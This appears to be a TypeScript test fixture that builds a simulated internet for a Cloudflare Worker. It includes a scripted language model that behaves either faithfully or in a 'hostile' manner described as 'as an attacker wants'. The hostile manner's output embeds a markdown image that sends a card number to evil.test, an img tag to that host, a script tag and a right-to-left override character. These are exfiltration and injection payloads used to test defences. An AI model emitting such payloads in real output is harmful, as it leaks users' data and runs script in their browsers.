import { readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import type { V4WorkerOptions } from 'miniflare';
import { faithful, type Manner, MODEL_URL, obeying, openScriptedModel } from '../api/test/scripted-model.ts';
import { publicNetwork } from '../local/public-network.ts';
import { readWorkerConfig } from '../local/run-worker.ts';
import { openOrderStatus } from './order-status.ts';

/** As JSON where articles are given, otherwise as words. */
const writes = (drafts: Manner, words: (given: { text?: string; language?: string }) => string): Manner => ({
  writes: (given) => ('says' in drafts && given.articles ? JSON.stringify(drafts.says(given)) : words(given)),
});
/** By the name under which a workspace sets the model: as it should do, and as an attacker wants. */
const MANNERS: Readonly<Record<string, Manner>> = {
  faithful: writes(faithful, ({ text, language }) =>
    text === undefined ? '- Asks how long delivery abroad takes' : `(${language ?? 'reworded'}) ${text}`,
  ),
  hostile: writes(
    obeying,
    ({ text = '- All is well' }) =>
      `${text} ![x](https://evil.test/?card=4111) <img src="https://evil.test/x"> <script>hacked()</script>\u202e`,
  ),
};

/**
 * The internet as the Worker under test meets it: models stand there at `MODEL_URL`, and the order-status service that the
 * shop's flow asks. All else is asked by the way out that leads to nothing on this machine.
 */
export async function openInternet(): Promise<{ name: string; worker: V4WorkerOptions; stop(): Promise<void> }> {
  const [models, orders] = await Promise.all([openScriptedModel(), openOrderStatus()]);
  models.behave((name) => MANNERS[name] ?? { status: 404 });
  const at = (port: string | number) => ({ external: { address: `127.0.0.1:${port}`, http: {} } });
  const name = 'internet';
  return {
    name,
    worker: {
      name,
      compatibilityDate: readWorkerConfig().compatibilityDate ?? '',
      modules: true,
      script: readFileSync(resolve(import.meta.dirname, 'internet.worker.js'), 'utf8'),
      serviceBindings: {
        PUBLIC_NETWORK: publicNetwork,
        [new URL(MODEL_URL).hostname]: at(new URL(models.model.baseUrl).port),
        'shop.example.com': at(orders.port),
      },
    },
    async stop() {
      await Promise.all([models.stop(), orders.stop()]);
    },
  };
}
